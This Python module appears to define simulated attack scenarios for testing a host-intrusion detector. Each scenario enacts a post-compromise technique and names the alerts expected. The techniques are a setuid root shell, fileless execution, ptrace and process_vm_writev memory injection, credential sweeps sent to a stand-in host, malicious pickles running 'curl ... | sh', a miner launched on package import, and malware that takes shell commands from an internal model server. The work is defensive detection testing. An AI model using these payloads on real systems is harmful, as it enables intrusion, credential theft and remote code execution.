"""What attackers do on a host once they are on it: more rights, others' memory, programs without files, credentials."""

from __future__ import annotations

import contextlib
import shutil
from collections.abc import Iterator

from proving.homes import SECRETS, furnish
from proving.hosts import Asked, Reply
from proving.scenario import Must, Repeat, attack
from proving.world import ScenarioError, World

NOT = ("port-scan", "lateral-movement", "cryptomining", "beaconing")
MAY = ("unexpected-process", "baseline-deviation")
SERVICE = "shop.service"
NOBODY_UID = 65534


@attack(
    "privesc-setuid-shell",
    "a shell with root's setuid bit was left in /tmp; a service's user starts it and is root",
    must=(Must("privilege-escalation", "", "/tmp/.x/helper", within=1.0),),
    may=MAY,
    must_not=NOT,
)
def setuid_shell(world: World) -> None:
    shutil.copy("/bin/dash", world.path("/tmp"))
    world.mark()
    world.run("sh", "-c", "mkdir -p /tmp/.x && cp /tmp/dash /tmp/.x/helper && chmod 4755 /tmp/.x/helper")
    world.sleep(1.0)
    said = world.run("/bin/sh", "-c", "/tmp/.x/helper -p -c id; true", uid=NOBODY_UID, unit=SERVICE)
    if "euid=0(root)" not in said:
        raise ScenarioError(said)


@attack(
    "privesc-user-namespace",
    "a service's process is root in a user namespace of its own and mounts a file system there, as kernel exploits begin",
    must=(Must("privilege-escalation", SERVICE),),
    may=(*MAY, "container-escape"),
    must_not=NOT,
    tools=("unshare",),
)
def user_namespace(world: World) -> None:
    world.mark()
    said = world.run(
        "sh", "-c", "unshare -Urm sh -c 'mount -t tmpfs none /mnt && id -u'; true", uid=NOBODY_UID, unit=SERVICE
    )
    if said.strip() != "0":
        raise ScenarioError(said)


@attack(
    "fileless-memfd",
    "a service's process runs a program from anonymous memory",
    must=(Must("fileless-execution", SERVICE, within=1.0),),
    may=MAY,
    must_not=NOT,
)
def memfd(world: World) -> None:
    path = world.program("/srv/shop/lib/loader.py", "fileless.py")
    world.mark()
    world.script(path, "memfd", "/usr/bin/sleep", "1", unit=SERVICE).wait()


@attack(
    "fileless-deleted",
    "a service's process runs a program whose file it has taken away",
    must=(Must("fileless-execution", SERVICE, within=1.0),),
    may=MAY,
    must_not=NOT,
)
def deleted(world: World) -> None:
    path = world.program("/srv/shop/lib/loader.py", "fileless.py")
    world.mark()
    world.script(path, "deleted", "/usr/bin/sleep", "1", unit=SERVICE).wait()


@attack(
    "fileless-shm",
    "a program is put into shared memory, run from there and removed",
    must=(Must("fileless-execution", SERVICE, "/dev/shm/", within=1.0),),
    may=MAY,
    must_not=NOT,
)
def shared_memory(world: World) -> None:
    command = "d=$(mktemp -d /dev/shm/.lw-XXXXXX); cp /usr/bin/sleep $d/kdevtmpfs; $d/kdevtmpfs 1; rm -r $d"
    world.mark()
    world.run("sh", "-c", command, unit=SERVICE)


@contextlib.contextmanager
def victim(world: World) -> Iterator[tuple[int, str]]:
    """Another service's process, and an address in it at which "injected" has to be written meanwhile."""
    path = world.program("/srv/payments/worker.py", "memory.py")
    actor = world.script(path, "victim", unit="payments.service")
    world.wait(lambda: actor.said().strip(), "the victim says nothing")
    yield actor.pid, actor.said().split()[0]
    actor.wait()
    if "injected" not in actor.said():
        raise ScenarioError(actor.said())


def _reach_into(world: World, how: str) -> None:
    with victim(world) as (pid, address):
        injector = world.program("/tmp/.x/inject.py", "memory.py")
        world.mark()
        world.script(injector, how, str(pid), address, unit=SERVICE).wait()


@attack(
    "inject-ptrace",
    "a service's process attaches to another service's and writes into its memory",
    must=(Must("process-injection", SERVICE, within=1.0),),
    may=MAY,
    must_not=NOT,
)
def ptrace(world: World) -> None:
    _reach_into(world, "ptrace")


@attack(
    "inject-vm-write",
    "a service's process writes into another's memory with process_vm_writev",
    must=(Must("process-injection", SERVICE, within=1.0),),
    may=MAY,
    must_not=NOT,
)
def vm_write(world: World) -> None:
    _reach_into(world, "write")


@attack(
    "credential-sweep",
    "an application reads SSH, AWS, Kubernetes, cloud, registry and .env files within a second and posts them to a new host",
    must=(Must("credential-access", SERVICE, within=2.0),),
    may=(*MAY, "data-exfiltration"),
    must_not=NOT,
)
def sweep(world: World) -> None:
    home = furnish(world)
    drop = world.host("203.0.113.110", "api.telemetry-sink.example")
    drop.http(443, lambda asked: Reply({"ok": True}), tls=True)
    path = world.program("/srv/shop/lib/analytics.py", "thief.py")
    paths = [f"{home}/{name}" for name in SECRETS]
    world.mark()
    world.script(path, "https://api.telemetry-sink.example/v1/c", *paths, unit=SERVICE).wait()
    assert drop.received > 500


@attack(
    "credential-environ",
    "a process reads the environments of other services' processes, which hold keys",
    must=(Must("credential-access", SERVICE, within=2.0),),
    may=(*MAY, "ai-key-exposed"),
    must_not=NOT,
)
def environ(world: World) -> None:
    others = [
        world.start("sleep", "8", env={"OPENAI_API_KEY": world.keys["OPENAI_API_KEY"]}, unit=f"other{n}.service")
        for n in range(4)
    ]
    path = world.program("/srv/shop/lib/collect.py", "thief.py")
    world.mark()
    said = world.run(world.python, path, "-", *(f"/proc/{other.pid}/environ" for other in others), unit=SERVICE)
    if int(said.split()[0]) < 400:
        raise ScenarioError(said)
    for other in others:
        other.stop()


@attack(
    "vllm-pickle",
    "a model server loads a model whose pickle runs a command: a shell that fetches a script and runs it",
    imitates="Malicious Hugging Face pickles (JFrog, February 2024; nullifAI, February 2025)",
    must=(Must("shell-in-model-server", "vllm.service", within=1.0),),
    may=(*MAY, "data-exfiltration", "unsafe-model-file"),
    must_not=NOT,
    tools=("curl",),
)
def pickled(world: World) -> None:
    drop = world.host("203.0.113.111", "cdn.weights-mirror.example")
    drop.http(80, lambda asked: Reply("id\nuname -a\n", kind="text/x-shellscript"))
    command = "curl -s http://cdn.weights-mirror.example/i | sh"
    pickle = f"cposix\nsystem\n(V{command}\ntR.".encode()
    world.file("/srv/models/chat/pytorch_model.bin", pickle)
    command_line = _vllm(
        world, "import pickle, sys\nwith open(sys.argv[-1] + '/pytorch_model.bin', 'rb') as f:\n    pickle.load(f)\n"
    )
    world.mark()
    world.run(*command_line, env={"PYTHONPATH": "/srv/venv/lib"}, unit="vllm.service")
    assert drop.requests == ["GET /i"]


@attack(
    "vllm-remote-pickle",
    "a model server's worker unpickles what comes from the network, and what came runs a shell",
    imitates="ShadowMQ (vLLM CVE-2025-30165)",
    must=(Must("shell-in-model-server", "vllm.service", within=1.0),),
    may=MAY,
    must_not=NOT,
)
def shadow_mq(world: World) -> None:
    code = (
        "import pickle, socket\nlistener = socket.create_server(('0.0.0.0', 5557))\nconnection, _ = listener.accept()\n"
        "pickle.load(connection.makefile('rb'))\n"
    )
    command_line = _vllm(world, code)
    server = world.start(*command_line, env={"PYTHONPATH": "/srv/venv/lib"}, unit="vllm.service")
    world.listening(server, 5557)
    stranger = world.host("203.0.113.112")
    world.mark()
    with stranger.connect("10.77.0.10", 5557) as connection:
        connection.sendall(b"cposix\nsystem\n(Vid > /tmp/.o; uname -a >> /tmp/.o\ntR.")
        server.wait(10)
    assert "uid=" in world.path("/tmp/.o").read_text()


def _vllm(world: World, code: str) -> list[str]:
    """A package of that name whose server is this code; the command that starts it."""
    for folder in ("vllm", "vllm/entrypoints", "vllm/entrypoints/openai"):
        world.file(f"/srv/venv/lib/{folder}/__init__.py", "")
    world.file("/srv/venv/lib/vllm/entrypoints/openai/api_server.py", code)
    return [world.python, "-m", "vllm.entrypoints.openai.api_server", "--port", "8000", "--model", "/srv/models/chat"]


@attack(
    "miner-on-import",
    "importing a package starts a miner that goes on when the program has ended",
    imitates="ultralytics 8.3.41 (December 2024)",
    must=(Must("cryptomining", "", "pool.connect-mining.example"),),
    may=(*MAY, "beaconing", "fileless-execution"),
    must_not=("port-scan", "lateral-movement"),
    minutes=30.0,
    repeats={"shares": Repeat(11.0, 0.3)},
)
def miner(world: World) -> None:
    from proving.scenarios.movement import stratum

    world.host("203.0.113.113", "pool.connect-mining.example").listen(8080, stratum)
    world.program("/tmp/ultralytics_runner", "miner.py")
    start = "[sys.executable, '/tmp/ultralytics_runner', 'pool.connect-mining.example', '8080', '8']"
    world.file(
        "/srv/train/lib/ultralytics/__init__.py",
        f"import subprocess, sys\nsubprocess.Popen({start}, start_new_session=True)\n",
    )
    world.file("/srv/train/train.py", "import ultralytics, time\ntime.sleep(1)\nprint('trained')\n")
    world.mark()
    world.run(world.python, "/srv/train/train.py", env={"PYTHONPATH": "/srv/train/lib"}, unit="train.service")
    with world.loop("shares"):
        world.sleep(4.4)
    world.sleep(6)


@attack(
    "malware-asks-model",
    "a program that was never seen asks a model server inside for commands and runs what it says",
    imitates="PromptLock (ESET, August 2025), LameHug (July 2025)",
    must=(Must("new-ai-destination", "winlog", "ollama.internal"),),
    may=(*MAY, "agent-command-execution", "credential-access", "unsanctioned-provider", "data-exfiltration"),
    must_not=("port-scan", "lateral-movement", "cryptomining"),
)
def promptlock(world: World) -> None:
    commands = ["uname -a", "id", "ls -la /home/app", "find /home/app -name '*.txt'"]
    turn = iter(range(100))

    def serve(asked: Asked) -> Reply:
        content = commands[next(turn) % len(commands)]
        message = {"role": "assistant", "content": content}
        return Reply(
            {"model": "gpt-oss:20b", "message": message, "done": True, "prompt_eval_count": 40, "eval_count": 9}
        )

    furnish(world)
    server = world.host("10.77.1.80", "ollama.internal")
    server.http(11434, serve)
    code = """
import json, subprocess, time, urllib.request
for _ in range(4):
    message = {"role": "user", "content": "one shell command to list what is here"}
    ask = json.dumps({"model": "gpt-oss:20b", "stream": False, "messages": [message]}).encode()
    request = urllib.request.Request("http://ollama.internal:11434/api/chat", ask, {"Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=10) as answer:
        command = json.load(answer)["message"]["content"]
    print(subprocess.run(command, shell=True, capture_output=True).stdout[-100:])
    time.sleep(0.4)
"""
    world.file("/tmp/.d/winlog.py", code)
    world.mark()
    world.script("/tmp/.d/winlog.py").wait()
    assert len(server.requests) == 4
